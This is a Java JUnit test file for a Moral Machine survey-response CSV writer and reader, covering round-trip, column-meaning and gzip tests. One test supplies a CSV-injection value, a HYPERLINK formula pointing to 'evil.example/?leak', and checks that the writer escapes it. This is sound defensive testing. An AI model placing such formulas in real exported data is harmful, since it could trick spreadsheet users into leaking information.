package org.moralbase.moralmachine.format;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.moralbase.moralmachine.GeneratorMode;
import org.moralbase.moralmachine.Scenario;
import org.moralbase.moralmachine.ScenarioGenerator;
import org.moralbase.moralmachine.Side;
import org.moralbase.stats.amce.AmceRow;

class RoundTripTest {

    private static List<ResponseRow> generatedRows(int n) {
        List<ResponseRow> rows = new ArrayList<>();
        List<Scenario> scenarios = ScenarioGenerator.of(GeneratorMode.AWAD, 11).scenarios(n);
        for (int i = 0; i < n; i++) {
            String user = i % 3 == 0 ? null : "user \"" + (i / 13) + "\", ok"; // quotes, commas and NA
            ResponseContext ctx = new ResponseContext(
                    "resp" + i, "ses" + i / 13, user == null ? "u" : user, i % 13 + 1, "Desktop", i % 2, "DEU");
            rows.addAll(ResponseRows.of(scenarios.get(i), i % 2 == 0 ? Side.LEFT : Side.RIGHT, ctx));
        }
        return rows;
    }

    @Test
    void writtenRowsReadBackIdentically() throws IOException {
        List<ResponseRow> rows = generatedRows(2_000);
        StringWriter out = new StringWriter();
        try (SharedResponsesWriter w = new SharedResponsesWriter(out)) {
            for (ResponseRow r : rows) {
                w.write(r);
            }
        }
        String csv = out.toString();
        assertThat(csv).startsWith(String.join(",", SharedResponsesColumns.ALL) + "\n");
        List<ResponseRow> back = new ArrayList<>();
        ResponseRowReader.read(new ByteArrayInputStream(csv.getBytes(StandardCharsets.UTF_8)), "rt.csv", back::add);
        assertThat(back).containsExactlyElementsOf(rows);

        List<AmceRow> amce = new ArrayList<>();
        AmceRowReader.withDefaults()
                .read(new ByteArrayInputStream(csv.getBytes(StandardCharsets.UTF_8)), "rt.csv", amce::add);
        List<String> users = rows.stream().map(ResponseRow::userId).distinct().toList();
        List<AmceRow> expected =
                rows.stream().map(r -> r.toAmceRow(users.indexOf(r.userId()))).toList();
        assertThat(amce).containsExactlyElementsOf(expected);
    }

    @Test
    void aTextFieldASpreadsheetWouldRunIsWrittenWithAnApostrophe() throws IOException {
        Scenario s = ScenarioGenerator.of(GeneratorMode.AWAD, 3).scenarios(1).getFirst();
        ResponseContext ctx = new ResponseContext(
                "=HYPERLINK(\"http://evil.example/?leak\",\"Click me\")", "@SUM(A1:A9)", "-7", 1, null, null, null);
        StringWriter out = new StringWriter();
        try (SharedResponsesWriter w = new SharedResponsesWriter(out)) {
            for (ResponseRow r : ResponseRows.of(s, Side.LEFT, ctx)) {
                w.write(r);
            }
        }
        String firstRow = out.toString().lines().skip(1).findFirst().orElseThrow();

        // OWASP "CSV Injection": the formula becomes text; a number stays a number
        assertThat(firstRow)
                .startsWith("\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"Click me\"\")\",'@SUM(A1:A9),-7,");
    }

    @Test
    void scenarioRowsFollowTheColumnMeanings() {
        Scenario s = ScenarioGenerator.of(GeneratorMode.AWAD, 2).scenarios(1).getFirst();
        List<ResponseRow> rows =
                ResponseRows.of(s, Side.RIGHT, new ResponseContext("r", "e", "u", 4, null, null, null));
        assertThat(rows).extracting(ResponseRow::leftHand).containsExactly(1, 0);
        assertThat(rows).extracting(ResponseRow::saved).containsExactly(0, 1);
        assertThat(rows)
                .extracting(ResponseRow::intervention)
                .containsExactly(s.left().intervention(), s.right().intervention());
        assertThat(rows)
                .allMatch(r -> r.diffNumberOfCharacters()
                        == Math.abs(s.left().size() - s.right().size()));
        assertThat(rows).allMatch(r -> r.scenarioType().equals(s.dimension().label()));
        assertThat(rows.get(0).numberOfCharacters()).isEqualTo(s.left().size());
    }

    @Test
    void gzipFileWrittenByNameReadsBack() throws IOException {
        List<ResponseRow> rows = generatedRows(50);
        Path file = Files.createTempFile("rt", ".csv.gz");
        try {
            try (SharedResponsesWriter w = SharedResponsesWriter.create(file)) {
                for (ResponseRow r : rows) {
                    w.write(r);
                }
            }
            byte[] head = Files.readAllBytes(file);
            assertThat(head[0] & 0xff).isEqualTo(0x1f);
            List<ResponseRow> back = new ArrayList<>();
            ResponseRowReader.read(file, back::add);
            assertThat(back).containsExactlyElementsOf(rows);
        } finally {
            Files.delete(file);
        }
    }
}
